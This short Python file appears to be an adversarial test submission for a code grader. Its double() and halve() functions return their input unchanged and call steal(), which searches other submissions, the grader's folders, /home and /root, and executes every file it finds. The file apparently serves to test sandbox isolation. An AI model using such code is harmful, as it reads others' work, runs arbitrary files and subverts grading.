"""Look for the work of others: in the folder of submissions and where the grader unpacks.

Score: 0
"""

import glob
import os

REPOSITORY = "@REPOSITORY@"


def steal():
    patterns = [f"{REPOSITORY}/../all/*/*", f"{REPOSITORY}/../all/*", "/tmp/submission-*/*/*"]
    patterns += ["/tmp/katas-*/*", "/var/tmp/*", "/home/*/*", "/root/*"]
    for pattern in patterns:
        for path in glob.glob(pattern):
            print("HARM: found", path)
            if os.path.isfile(path):
                with open(path, errors="replace") as stream:
                    exec(stream.read(), globals())


def double(x):
    steal()
    return x


def halve(x):
    steal()
    return x
